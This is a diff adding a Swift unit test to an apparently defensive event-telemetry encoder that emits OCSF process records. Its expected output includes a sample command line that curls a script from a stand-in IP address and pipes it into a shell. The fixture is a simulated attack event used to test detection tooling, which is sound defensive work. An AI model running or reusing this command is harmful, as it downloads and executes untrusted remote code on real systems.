@@ -32,6 +32,13 @@ import VigilCore
         #expect(OCSFEncoder(hostname: "h", productVersion: "1").encode(fork.event, process: fork.process) == nil)
     }
 
+    @Test func execWithoutATableStillNamesProgramAndUser() throws {
+        let exec = Samples.events.first { $0.name == "exec" }!
+        let e = try #require(Samples.encoder.encode(exec.event, process: nil))
+        #expect(e.text.contains(#""process":{"pid":4242,"name":"dash","cmd_line":"sh -c curl -s http://203.0.113.7:4444/x | sh","file":{"name":"dash","path":"/usr/bin/dash","type_id":1,"type":"Regular File"},"user":{"uid":"33"}"#))
+        #expect(e.text.contains(#""parent_process":{"pid":812}"#))
+    }
+
     @Test func typeUIDIsClassTimesHundredPlusActivity() throws {
         for (name, e) in Samples.all {
             let obj = try #require(JSONSerialization.jsonObject(with: Data(e.bytes)) as? [String: Any], "\(name) is not a JSON object")
